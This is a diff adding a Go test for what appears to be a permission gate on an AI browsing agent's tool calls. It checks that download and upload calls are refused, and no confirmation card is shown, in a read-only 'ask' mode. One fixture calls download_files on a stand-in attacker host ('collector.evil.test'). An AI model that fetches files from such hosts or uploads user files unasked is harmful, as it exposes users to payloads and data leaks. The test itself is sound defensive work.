@@ -77,3 +77,21 @@ func TestDownloadRequestIsNoSubmission(t *testing.T) {
 	assert.False(t, a.Requested(CatSubmit), "a download asks for no form to be sent")
 	assert.False(t, NewAuthority([]string{"Is the download link broken?"}, "").Requested(CatDownload))
 }
+
+func TestAskModeShowsNoCardForFileTools(t *testing.T) {
+	page := &fakePage{pageURL: "https://reports.example.com/q3", links: []string{"https://reports.example.com/files/q3.csv"}}
+	user := &fakeUser{}
+	g := newGate("ask", "What does the report say?", page.pageURL, page, user)
+	for _, c := range []struct {
+		name string
+		args map[string]any
+	}{
+		{"download_files", map[string]any{"urls": []any{"https://collector.evil.test/x.bin"}}},
+		{"upload_file", map[string]any{"downloadId": 1, "ref": "ref_2"}},
+	} {
+		refusal, err := g.Check(context.Background(), call("c1", c.name, c.args))
+		require.NoError(t, err)
+		assert.Empty(t, refusal, "the dispatcher refuses it in Ask")
+	}
+	assert.Empty(t, user.cards, "no card for a call Ask never runs")
+}
